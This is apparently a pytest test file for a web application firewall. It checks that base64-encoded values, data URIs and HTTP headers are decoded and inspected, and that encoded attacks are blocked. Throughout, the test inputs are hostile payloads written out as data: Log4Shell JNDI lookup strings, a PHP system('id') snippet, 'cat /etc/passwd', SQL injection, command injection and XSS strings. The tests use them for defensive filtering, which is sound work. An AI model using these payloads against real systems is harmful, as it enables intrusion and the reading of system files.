"""Where payloads hide: base64 values decoded (bounded), and header values read by their syntax."""

from __future__ import annotations

import base64
import time
from urllib.parse import quote

import pytest

from gateway.waf.decode import MAX_BYTES, base64_layers
from gateway.waf.model import WafSpec
from gateway.waf.packs import compile_waf, pack_rules
from gateway.waf.parts import from_raw_http


def b64(text: str, alphabet: str = "standard", padded: bool = True) -> str:
    raw = base64.urlsafe_b64encode(text.encode()) if alphabet == "url" else base64.b64encode(text.encode())
    out = raw.decode()
    return out if padded else out.rstrip("=")


@pytest.mark.parametrize("alphabet", ["standard", "url"])
@pytest.mark.parametrize("padded", [True, False])
def test_base64_text_is_decoded_in_either_alphabet_padded_or_not(alphabet, padded):
    text = "${jndi:ldap://x.example/a}?>~~"  # '?' and '~' put + / or - _ in the encoding
    assert base64_layers(b64(text, alphabet, padded)) == (text,)


@pytest.mark.parametrize(
    "prefix", ["data:text/plain;base64,", "data://text/plain;charset=utf-8;base64,", "DATA:;base64,"]
)
def test_a_data_uri_payload_is_decoded(prefix):
    assert base64_layers(prefix + b64("<?php system('id'); ?>")) == ("<?php system('id'); ?>",)


def test_a_data_uri_without_base64_text_yields_nothing():
    assert base64_layers("data:text/plain,hello world") == ()
    assert base64_layers("data:image/png;base64," + base64.b64encode(bytes(range(256))).decode()) == ()


def test_two_layers_at_most():
    assert base64_layers(b64(b64("cat /etc/passwd"))) == (b64("cat /etc/passwd"), "cat /etc/passwd")
    three = b64(b64(b64("cat /etc/passwd")))
    assert len(base64_layers(three)) == 2  # the third layer stays encoded


@pytest.mark.parametrize(
    "value",
    ["password", "12345678", "gpt-4o-mini", "deadbeefcafebabe0123", "c2VjcmV0"[:5], "sk-" + "A" * 40, "hello world"],
)
def test_ordinary_values_are_not_base64_text(value):
    assert base64_layers(value) == ()


def test_binary_and_oversized_values_are_left_alone():
    assert base64_layers(base64.b64encode(bytes(range(256))).decode()) == ()  # not printable text
    big = b64("a" * (MAX_BYTES // 4 * 3 + 30))
    started = time.perf_counter()
    assert base64_layers(big) == ()
    assert time.perf_counter() - started < 0.05


def test_header_values_read_each_header_by_its_syntax():
    view = from_raw_http(
        "POST",
        "/v1/chat/completions",
        [
            ("Host", "gw"),
            ("Authorization", "Bearer c2VjcmV0LXRva2VuLXRleHQ="),
            ("User-Agent", "curl/8"),
            ("Referer", "https://a.example/p?q=%27%20or%201%3D1&x=2"),
            ("X-Forwarded-For", "10.0.0.1, ${jndi:ldap://x/a}"),
            ("Cookie", "a=1"),
        ],
        b"",
    )
    texts = [text for _, text, _ in view.values("header_values")]
    assert texts == [
        "curl/8",
        "https://a.example/p?q=%27%20or%201%3D1&x=2",
        "' or 1=1",
        "2",
        "10.0.0.1",
        "${jndi:ldap://x/a}",
    ]  # no Host, no credentials, no Cookie (its values are the `cookies` part)


def test_base64_part_decodes_arguments_cookies_and_headers():
    view = from_raw_http(
        "GET",
        "/?a=" + b64("union select 1"),
        [("X-Api-Version", b64("${jndi:ldap://x/a}")), ("Cookie", "s=" + b64("whoami;id"))],
        b"",
    )
    assert {(part, text) for part, text, _ in view.values("base64")} == {
        ("arg:a (base64)", "union select 1"),
        ("header:x-api-version (base64)", "${jndi:ldap://x/a}"),
        ("cookie:s (base64)", "whoami;id"),
    }


@pytest.fixture(scope="module")
def web_waf():
    spec = WafSpec(paranoia_level=2, packs=["sqli", "rce", "xss", "lfi"])
    return compile_waf(spec, pack_rules({}), "test")


@pytest.mark.parametrize(
    ("uri", "headers"),
    [
        ("/?q=" + b64("1' UNION SELECT password FROM users--"), []),
        ("/?q=" + b64(b64(";cat /etc/passwd"), "url", False), []),
        ("/", [("Referer", "https://x.example/?id=1%27%20UNION%20SELECT%20password%20FROM%20users--")]),
        ("/", [("X-Custom", "<script>alert(1)</script>")]),
    ],
)
def test_attacks_hidden_in_base64_or_headers_are_blocked(web_waf, uri, headers):
    assert web_waf.evaluate(from_raw_http("GET", uri, [("Host", "gw"), *headers], b"")).blocked


def test_ordinary_headers_and_tokens_pass(web_waf):
    headers = [
        ("Host", "gw"),
        ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"),
        ("Referer", "https://app.example/chat?conversation=42&tab=history"),
        ("X-Request-Id", "1b4e28ba-2fa1-11d2-883f-0016d3cca427"),
        ("X-Stainless-Runtime-Version", "3.11.7"),
        ("X-Forwarded-For", "203.0.113.7, 10.0.0.2"),
    ]
    view = from_raw_http("GET", "/?state=" + b64('{"page": 2, "sort": "date"}'), headers, b"")
    assert not web_waf.evaluate(view).blocked


@pytest.mark.parametrize(
    ("value", "foreign"),
    [
        ("https://evil.example/x", True),
        ("https://api.example.com.evil.example/", True),
        ("https://api.example.com:1234/", True),
        ("https://api.example.com/v1", False),
        ("https://www.api.example.com/v1", False),  # a subdomain of the Host
        ("http://user:pw@api.example.com:443/", False),
        ("not a url", False),
    ],
)
def test_foreign_urls_are_arguments_pointing_at_another_site(value, foreign):
    view = from_raw_http("GET", "/?u=" + quote(value, safe=""), [("Host", "api.example.com")], b"")
    assert bool(view.values("foreign_urls")) is foreign


def test_xml_declarations_are_no_markup_but_what_follows_them_is(web_waf):
    declaration = quote('<?xml version="1.0" encoding="UTF-8"?>', safe="")
    assert not web_waf.evaluate(from_raw_http("GET", "/?doc=" + declaration, [("Host", "gw")], b"")).blocked
    svg = quote("<svg onload=alert(1)>", safe="")
    assert web_waf.evaluate(from_raw_http("GET", "/?doc=" + declaration + svg, [("Host", "gw")], b"")).blocked
